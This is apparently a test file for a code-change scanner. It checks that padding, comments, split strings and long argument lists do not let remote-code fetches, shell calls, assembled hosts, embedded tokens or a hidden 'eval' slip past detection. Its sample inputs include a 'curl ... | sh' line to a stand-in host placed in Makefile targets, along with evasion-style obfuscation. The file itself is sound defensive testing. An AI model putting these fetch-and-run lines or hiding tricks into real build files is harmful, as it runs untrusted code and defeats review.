import { expect, test } from "vitest";
import { brokenByNew } from "../testing/changed.ts";

/** As much as stands between two words that mean nothing bad apart. */
const LONG = "x".repeat(2_100);
const SOME = "x".repeat(410);
const FETCHED = "curl -fsSL https://get.samples.dev/x | sh";
const [ONE, OTHER] = ["k7Q2mX9z", "P4rT8vW1"];
const lines = (count: number, line: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => line(n)).join("\n");

test.each([
  ["remote-code", "Makefile", `${"x".repeat(202)}: ; ${FETCHED}\n`],
  ["remote-code", "Makefile", `all: ${LONG}; ${FETCHED}\n`],
  ["remote-code", "Makefile", `all: ; ${FETCHED} #\r\n`],
  ["install-script", "CMakeLists.txt", `add_custom_target(a COMMAND x ${LONG} sh -c y)`],
  ["shell", "a.rs", `extern "C" { fn ${LONG}(); fn system(line: *const u8) -> i32; }`],
  [
    "shell",
    "a.rs",
    'extern "C" { /* one */ fn one(); // }\n fn r#system(line: *const u8) -> i32; }',
  ],
  ["shell", "a.rs", 'extern { #[doc = "}"] fn popen(line: *const u8) -> i32; }'],
  ["shell", "a.py", `import subprocess\nsubprocess.run(line, **{"a": "${LONG}", "shell": on} | b)`],
  [
    "unknown-host",
    "a.go",
    `package a\nvar at = strings.Join([]string{"https://collect", "samples", "dev" /* ${SOME} */}, ".")`,
  ],
  ["secret", "a.js", `const token = /* ${SOME} */ ["${ONE}", "${OTHER}"].join("");`],
  ["secret", "a.ts", `const token: ${"x".repeat(41)} = ["${ONE}", "${OTHER}"].join("");`],
  ["secret", "a.ts", `const ${"x".repeat(81)}token = ["${ONE}", "${OTHER}"].join("");`],
  ["secret", "a.ts", `const one = "${ONE}", other = "${OTHER}";\nconst token = one + other;`],
])("what stands between does not hide %s in %s: %s", (rule, path, text) => {
  expect(brokenByNew(path, text)).toContain(rule);
});

test.each([
  ["Makefile", `${"x".repeat(202)}: ; cc -o x x.c\n`],
  ["CMakeLists.txt", `add_custom_target(a COMMAND x ${LONG} COMMAND $\{CMAKE_COMMAND} -E echo y)`],
  ["a.rs", `extern "C" { fn ${LONG}(); }\nfn system(line: &str) -> i32 { 0 }`],
  ["a.rs", 'extern "C" { /* fn system(); */ fn other(); }\nextern crate libc;'],
  ["a.rs", 'pub extern "C" fn one() { two(); }\nfn popen() {}'],
  ["a.py", `import subprocess\nsubprocess.run("ls", **{"a": "${LONG}", "cwd": at} | b)`],
  [
    "a.go",
    `package a\nvar at = strings.Join([]string{"docs", "example", "com" /* ${SOME} */}, ".")`,
  ],
  ["a.ts", `const token: ${"x".repeat(41)} = /* ${SOME} */ parts.join(separator);`],
])("what is long and harmless passes in %s: %s", (path, text) => {
  expect(brokenByNew(path, text)).toEqual([]);
});

const GROWS = `PARTS = %w[${"a1B2c3D4e5F6".repeat(3)}]\ndef f\n  out = +"npm"\n  out << "_"\n  PARTS.each { |part| out << part }\n  out\nend`;
const grown = (count: number) => lines(count, (n) => `a${n} = ""\na${n} << "x"`);
const joined = (count: number) => lines(count, () => `x = "a" + b`);

test("names that grow do not hide one that is a key, and too many are not read", () => {
  expect(brokenByNew("a.rb", `${grown(250)}\n${GROWS}`)).toContain("secret");
  expect(brokenByNew("a.rb", `${grown(2_100)}\n${GROWS}`)).toContain("unreadable");
});

test("texts that are put together do not hide one that is a key, and too many are not read", () => {
  expect(brokenByNew("a.rb", `${joined(2_100)}\nx = "ev" + "al"`)).toContain("hidden-code");
  expect(brokenByNew("a.rb", `${joined(5_100)}\nx = "ev" + "al"`)).toContain("unreadable");
});

const given = (first: string) => `import subprocess\nsubprocess.run(line, ${first}, shell=True)`;
const keyed = (count: number) => {
  const keys = Array.from({ length: count }, (_, n) => `"k${n}": v${n}`).join(", ");
  return `import subprocess\nsubprocess.run(line, **{${keys}, "shell": on})`;
};

test("what a call is given first does not hide what it is given last", () => {
  expect(brokenByNew("a.py", given(`cwd=f(${"x".repeat(4_100)})`))).toContain("shell");
  expect(brokenByNew("a.py", keyed(60))).toContain("shell");
  expect(brokenByNew("a.py", given(`cwd=f(${"x".repeat(16_100)})`))).toContain("unreadable");
  expect(brokenByNew("a.py", keyed(1_100))).toContain("unreadable");
  const names = Array.from({ length: 1_100 }, (_, n) => `v${n}`).join(", ");
  expect(brokenByNew("a.py", given(`cwd=[${names}]`))).toContain("unreadable");
});
